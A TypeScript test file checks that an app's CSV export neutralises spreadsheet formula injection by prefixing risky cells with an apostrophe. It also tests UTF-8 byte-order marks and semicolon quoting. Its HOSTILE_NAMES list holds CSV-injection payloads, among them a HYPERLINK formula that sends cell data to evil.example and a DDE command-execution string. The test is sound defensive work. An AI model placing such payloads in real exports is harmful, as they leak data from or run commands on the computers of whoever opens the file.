// The CSV export is opened in a spreadsheet by a broker: a value someone typed must never run there
// as a formula (OWASP's CSV-injection advice), and a name in any script must read as itself.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportCsvFiles } from '../../main/export/csv.js';
import { collectExport } from '../../main/export/workspace-export.js';
import { initWorkspace, openWorkspace, type Workspace } from '../../main/workspace/workspace.js';
import type { ExportFile } from '../../shared/inspector.js';
import { validEmployerBody, validPlanBody } from '../support/fixtures.js';
import { SETUP } from '../support/workspace-fixture.js';

const HOSTILE_NAMES = ['=HYPERLINK("https://evil.example/?leak="&A2,"Click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1)'];

let dir: string;
let workspace: Workspace;
let files: ExportFile[];

async function post(path: string, body: Record<string, unknown>): Promise<{ id: string }> {
  const response = await workspace.router({ method: 'POST', path, body, actor: workspace.actor });
  expect(response.status, JSON.stringify(response.body)).toBe(200);
  return response.body as { id: string };
}

/** The cells of a file, as a spreadsheet (or csv-parse) reads them. */
function cells(name: string): Record<string, string>[] {
  const file = files.find((candidate) => candidate.name === name)!;
  return parse(file.content, { bom: true, columns: true }) as Record<string, string>[];
}

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'plandesk-csv-export-'));
  const { division } = await initWorkspace(dir, SETUP);
  workspace = await openWorkspace(dir);
  for (const [index, name] of HOSTILE_NAMES.entries()) {
    await post('/employers/', validEmployerBody(division, { name, url: `https://hostile-${index}.example.com`, other_filters: [] }));
  }
  const lodz = await post('/employers/', validEmployerBody(division, { name: 'Łódź Spółka', url: 'https://lodz.example.com', other_filters: [] }));
  await post('/plans/dental/', validPlanBody('dental', { employer: lodz.id, title: '=1+1 Dental' }));
  files = exportCsvFiles(await collectExport(workspace));
});

afterAll(() => {
  workspace.close();
  rmSync(dir, { recursive: true, force: true });
});

describe('the CSV export', () => {
  it('prefixes every text cell that a spreadsheet would run as a formula with an apostrophe', () => {
    const names = cells('employers.csv').map((row) => row.name);
    for (const name of HOSTILE_NAMES) expect(names).toContain(`'${name}`);
    expect(cells('plans-dental.csv')[0]!.title).toBe("'=1+1 Dental");
  });

  it('prefixes a cell beginning with a tab or a carriage return too (the service trims them off, a record from elsewhere may not)', async () => {
    const data = await collectExport(workspace);
    data.employers = [{ name: '\t=1+1', size: '\r=1+1' }];
    const [employers] = exportCsvFiles(data);
    expect(parse(employers!.content, { bom: true, columns: true })).toEqual([{ name: "'\t=1+1", size: "'\r=1+1" }]);
  });

  it('leaves every other cell as it was: names, numbers, lists', () => {
    const lodz = cells('employers.csv').find((row) => row.name === 'Łódź Spółka')!;
    expect(lodz).toMatchObject({ url: 'https://lodz.example.com', size: '250', naics_codes: '332710;423830', location_states: 'CA;NV;DC' });
  });

  it('is UTF-8 with a byte-order mark, so Excel reads Łódź as Łódź', () => {
    for (const file of files) {
      const bytes = Buffer.from(file.content, 'utf8');
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      expect(file.content.indexOf('\uFEFF', 1)).toBe(-1);
    }
    expect(Buffer.from(files[0]!.content, 'utf8').includes(Buffer.from('Łódź Spółka', 'utf8'))).toBe(true);
  });

  it('quotes a cell holding a semicolon, so a spreadsheet splitting on semicolons keeps it whole', () => {
    expect(files[0]!.content).toContain('"332710;423830"');
  });
});
